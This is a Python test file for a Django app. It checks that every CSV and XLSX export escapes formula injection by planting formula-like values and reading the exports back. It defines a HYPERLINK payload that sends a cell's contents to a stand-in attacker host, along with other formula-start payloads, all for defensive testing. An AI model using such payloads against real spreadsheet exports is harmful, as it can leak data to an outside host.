"""Formula injection: every CSV and XLSX export writes text typed by partners or visitors as
plain text. A value starting with =, +, -, @, a tab or a carriage return is planted in the
records each export shows, the export is read back (CSV parsed, XLSX opened with openpyxl),
and no cell may start like a formula or be stored as one.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import maillage
from maillage.core.exports import FORMULA_STARTS, csv_writer, safe_cell, safe_row
from maillage.core.models import Organisation
from maillage.directory.exchange.tabular import services_csv, services_xlsx
from maillage.directory.models import Service
from maillage.trainings.models import Attendance, TrainingSession

from ..directory.factories import ServiceFactory
from ..factories import OrganisationFactory, SignatureFactory
from ..network.factories import ActionSheetFactory
from ..network.survey_factories import build_survey
from ..network.test_survey_results import answer
from ..prevention.event_factories import AwarenessEventFactory, MaterialReuseFactory
from ..prevention.factories import CampaignFactory, MaterialFactory
from ..trainings.factories import ModuleFactory, RegistrationFactory, SessionFactory
from ..trainings.test_statistics import FULL_DAY, attend
from .conftest_fuzz import examples

EVIL = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")'
PAYLOADS = ["=1+1", "+33 2 41 00", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "\ncmd"]
PACKAGE = Path(maillage.__file__).parent


def looks_like_a_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def xlsx_cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula stored in {sheet.title}!{cell.coordinate}"
                cells.append(cell.value)
    return cells


def assert_neutralised(cells: list[object], planted: str, where: str) -> None:
    assert "'" + planted in cells, f"{where}: the planted value is missing"
    dangerous = [cell for cell in cells if looks_like_a_formula(cell)]
    assert not dangerous, f"{where}: {dangerous[:3]}"


# The one helper


def test_every_export_writes_through_the_one_escaping_helper():
    """No module calls csv.writer itself, and every module that builds a workbook uses
    safe_row: a new export that forgets the helper fails here."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if (path.name == "exports.py" and path.parent.name == "core") or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in {"writer", "DictWriter"}
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno} csv.{node.func.attr}")
        if "Workbook(" in source and "safe_row" not in source:
            offenders.append(f"{path.relative_to(PACKAGE)}: a Workbook without safe_row")
    assert offenders == []


@given(
    start=st.sampled_from(FORMULA_STARTS),
    rest=st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
)
@examples(60)
def test_any_text_starting_like_a_formula_comes_back_as_text(start, rest):
    value = start + rest
    buffer = io.StringIO(newline="")
    csv_writer(buffer, delimiter=";").writerows([["titre", value, 3]])
    row = next(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert row[0] == "titre" and row[2] == "3"
    assert row[1].startswith("'") and not looks_like_a_formula(row[1])

    workbook = Workbook(write_only=True)
    workbook.create_sheet("x").append(safe_row(["titre", value, 3]))
    output = io.BytesIO()
    workbook.save(output)  # control characters XML cannot hold would raise here
    cells = xlsx_cells(output.getvalue())
    assert cells[2] == 3 and cells[1].startswith("'")


@pytest.mark.parametrize("value", [*PAYLOADS, "Angers = ville", "", None, 12, 1.5])
def test_safe_row_keeps_numbers_and_plain_text(value):
    cell = safe_row([value])[0]
    if value is None or isinstance(value, int | float):
        assert cell == value
    elif value and value.startswith(FORMULA_STARTS):
        assert cell == "'" + value
    else:
        assert cell == safe_cell(value)


def test_control_characters_that_break_a_workbook_are_dropped():
    assert safe_cell("Bar\x0bdu\x01coin\x00") == "Barducoin"
    workbook = Workbook(write_only=True)
    workbook.create_sheet("x").append(safe_row(["Bar\x0bdu coin", "=\x1bcmd"]))
    workbook.save(io.BytesIO())


# Every export, read back


@pytest.fixture
def evil(territory):
    return OrganisationFactory(territory=territory, name=EVIL, kind=Organisation.Kind.NIGHTLIFE)


@pytest.fixture
def planted(territory, contract, organisation, evil):
    """The value planted in every table an export shows."""
    SignatureFactory(contract=contract, organisation=evil)
    module = ModuleFactory(territory=territory, trainer_organisation=organisation)
    held = SessionFactory(module=module, status=TrainingSession.Status.HELD, slots=FULL_DAY)
    A = Attendance.Status
    attend(RegistrationFactory(session=held, organisation=evil), A.PRESENT, A.PRESENT)
    AwarenessEventFactory(organiser=evil, title=EVIL, past=True, partners=[organisation])
    campaign = CampaignFactory(territory=territory, title=EVIL)
    material = MaterialFactory(campaign=campaign, title=EVIL, licence=EVIL)
    MaterialReuseFactory(material=material, organisation=evil, description=EVIL)
    ActionSheetFactory(priority__contract=contract, title=EVIL, pilot=evil)
    survey = build_survey(contract, open=True, year=2025)
    answer(survey, evil, impact="Tout à fait d'accord", scale=5, text=EVIL)
    ServiceFactory(organisation=evil, name=EVIL, status=Service.Status.PUBLISHED)
    return {"survey": survey}


def exports(contract, survey) -> list[tuple[str, str, dict]]:
    review = ("evaluation:review_table", {"annee": 2025})
    return [
        ("csv", reverse("core:contract_manage", args=[contract.pk]), {"format": "csv"}),
        ("csv", reverse("trainings:statistics_csv"), {}),
        ("xlsx", reverse("trainings:statistics_xlsx"), {}),
        ("csv", reverse("prevention:events_csv"), {}),
        ("xlsx", reverse("prevention:events_xlsx"), {}),
        ("csv", reverse("prevention:reuses_csv"), {}),
        ("xlsx", reverse("prevention:reuses_xlsx"), {}),
        ("csv", reverse("prevention:material_list"), {"format": "csv"}),
        ("xlsx", reverse("prevention:material_list"), {"format": "xlsx"}),
        ("csv", reverse("network:survey_export_csv", args=[survey.pk]), {}),
        ("xlsx", reverse("network:survey_export_xlsx", args=[survey.pk]), {}),
        ("csv", reverse("network:plan_csv", args=[contract.pk]), {}),
        ("xlsx", reverse("network:plan_xlsx", args=[contract.pk]), {}),
        ("csv", reverse(review[0], args=[contract.pk, "signataires", "csv"]), review[1]),
        ("xlsx", reverse(review[0], args=[contract.pk, "tout", "xlsx"]), review[1]),
    ]


def test_a_planted_formula_comes_out_as_text_in_every_export(login, coordinator, contract, planted):
    client = login(coordinator)
    for kind, url, query in exports(contract, planted["survey"]):
        response = client.get(url, query)
        assert response.status_code == 200, (url, response.status_code)
        content = b"".join(response) if response.streaming else response.content
        cells = csv_cells(content) if kind == "csv" else xlsx_cells(content)
        assert_neutralised(cells, EVIL, f"{url} {query}")


def test_the_directory_exports_neutralise_a_planted_formula(planted):
    services = Service.objects.filter(name=EVIL)
    assert_neutralised(csv_cells(services_csv(services).encode()), EVIL, "services.csv")
    assert_neutralised(xlsx_cells(services_xlsx(services)), EVIL, "services.xlsx")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_start_is_neutralised_in_a_real_export(login, coordinator, contract, payload):
    SignatureFactory(
        contract=contract, organisation__territory=contract.territory, organisation__name=payload
    )
    response = login(coordinator).get(
        reverse("core:contract_manage", args=[contract.pk]), {"format": "csv"}
    )
    cells = csv_cells(response.content)
    assert "'" + payload in cells
    assert not [cell for cell in cells if looks_like_a_formula(cell)]
